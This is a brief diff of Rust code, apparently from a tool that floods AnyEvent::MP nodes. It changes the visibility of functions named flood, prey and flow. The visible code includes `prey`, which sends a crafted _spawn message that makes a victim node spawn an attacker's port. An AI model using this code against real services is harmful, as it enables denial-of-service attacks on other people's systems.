@@ -102,7 +102,7 @@ async fn flood(target: &Target, write: &mut OwnedWriteHalf, batch: &str) -> io::
 }
 
 /// Makes a port of the attacker's at the victim.
-async fn prey(write: &mut OwnedWriteHalf, port: &str) -> io::Result<()> {
+pub(super) async fn prey(write: &mut OwnedWriteHalf, port: &str) -> io::Result<()> {
     let spawn = format!(r#"["","AnyEvent::MP::_spawn","{port}","Soak::prey"]"#);
     write.write_all(spawn.as_bytes()).await
 }
@@ -126,7 +126,7 @@ pub(super) async fn missing_ports(target: Target, number: u32) -> io::Result<()>
 }
 
 /// Sends batches that are never the same.
-async fn flow(
+pub(super) async fn flow(
     target: &Target,
     write: &mut OwnedWriteHalf,
     packet: impl Fn(&mut String, u64),
